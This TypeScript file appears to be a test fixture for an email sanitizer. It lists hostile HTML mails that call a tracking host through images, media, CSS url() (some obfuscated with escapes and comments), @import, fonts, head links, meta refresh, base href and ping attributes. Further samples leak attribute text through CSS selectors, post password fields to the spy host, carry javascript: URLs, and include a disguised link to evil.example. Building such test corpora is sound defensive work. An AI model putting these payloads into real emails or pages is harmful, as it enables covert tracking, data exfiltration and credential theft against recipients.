import { attack, type HostileMail } from './hostile-mail.ts'

/** Mails that report to a server when, where and by whom they are read. */
export const trackingMails: readonly HostileMail[] = [
  {
    name: 'pictures',
    html: (spy) =>
      `<img src="http://${spy}/1.gif" alt="Счёт" width="1" height="1"><img srcset="http://${spy}/2.gif 2x" src="//${spy}/3.gif"><picture><source srcset="http://${spy}/4.gif"><img src="https://${spy}/5.gif" alt="Логотип"></picture><table background="http://${spy}/6.gif"><tr><td background="//${spy}/7.gif">a</td></tr></table><body background="http://${spy}/8.gif"><input type="image" src="http://${spy}/9.gif"><img src="\thttp://${spy}/10.gif"><img dynsrc="http://${spy}/11.gif" lowsrc="http://${spy}/12.gif" longdesc="http://${spy}/13">`,
  },
  {
    name: 'sound and film',
    html: (spy) =>
      `<video src="http://${spy}/v.mp4" poster="http://${spy}/p.png" autoplay></video><audio src="http://${spy}/a.mp3" autoplay></audio><video autoplay><source src="http://${spy}/s.mp4"><track src="http://${spy}/t.vtt" default></video><bgsound src="http://${spy}/b.wav">`,
  },
  {
    name: 'styles: url()',
    html: (spy) =>
      `<div style="background:url(http://${spy}/1.png);list-style:url('//${spy}/2.png');cursor:url(http://${spy}/3.cur),auto;border-image:url(http://${spy}/4.png) 30;content:url(http://${spy}/5.png);mask:url(http://${spy}/6.svg);shape-outside:url(http://${spy}/7.png)">a</div><style>p::after{content:url(http://${spy}/8.png)}body{background-image:image-set("http://${spy}/9.png" 1x);filter:url(http://${spy}/10.svg#f)}</style><p>b</p>`,
  },
  {
    name: 'styles: disguised url()',
    html: (spy) =>
      `<div style="background:\\75 rl(http://${spy}/1.png)">a</div><div style="background:u/**/rl(http://${spy}/2.png);background:UrL( &quot;http://${spy}/3.png&quot; )">b</div><style>div{background:\\000075\\000072\\00006c(http://${spy}/4.png)}@\\69mport "http://${spy}/5.css";</style>`,
  },
  {
    name: 'styles: @import and fonts',
    html: (spy) =>
      `<style>@import url(http://${spy}/1.css);@import "//${spy}/2.css" screen;@font-face{font-family:spy;src:url(http://${spy}/3.woff2);unicode-range:U+0410-044F}body{font-family:spy}@namespace svg url(http://${spy}/4);</style><p style="font-family:spy">Текст</p>`,
  },
  {
    name: 'styles: what attributes say',
    html: (spy) =>
      `<style>${[...'абвгдежзик'].map((letter) => `p[title^="${letter}"]{background:url(http://${spy}/${encodeURIComponent(letter)})}:has(p[title*="${letter}"])::before{content:url(http://${spy}/has)}`).join('')}</style><p title="адрес: тайна">Секрет</p>`,
  },
  {
    name: 'links of the head',
    html: (spy) =>
      [
        'stylesheet',
        'preload',
        'prefetch',
        'preconnect',
        'dns-prefetch',
        'icon',
        'manifest',
        'modulepreload',
        'prerender',
        'import',
      ]
        .map((rel) => `<link rel="${rel}" as="image" href="http://${spy}/${rel}">`)
        .join(''),
  },
  {
    name: 'refresh',
    html: (spy) =>
      `<meta http-equiv="refresh" content="0;url=http://${spy}/refresh"><meta http-equiv="refresh" content="0;url=javascript:${attack}"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><meta charset="utf-7">+ADw-script+AD4-`,
  },
  {
    name: 'a base for all addresses',
    html: (spy) =>
      `<base href="http://${spy}/" target="_top"><a href="relative">Перейти</a><img src="relative.png"><a href="//${spy}/b">Ещё</a><a href="/admin?tab=users">Админ</a>`,
  },
  {
    name: 'forms',
    html: (spy) =>
      `<form action="http://${spy}/send" method="post" target="_top"><input name="password" type="password" autofocus><button formaction="javascript:${attack}">Войти</button><input type="submit" formaction="http://${spy}/f"><select><option>a</option></select><textarea>b</textarea></form><isindex action="http://${spy}/i">`,
  },
  {
    name: 'links that report a click',
    html: (spy) =>
      `<a href="https://example.org/" ping="http://${spy}/ping" attributionsrc="http://${spy}/a" target="_top" download>Ссылка</a><img usemap="#m" alt="Карта"><map name="m"><area href="javascript:${attack}" ping="http://${spy}/area" shape="default"></map><a href="https://evil.example/login">www.bank.kg</a>`,
  },
]
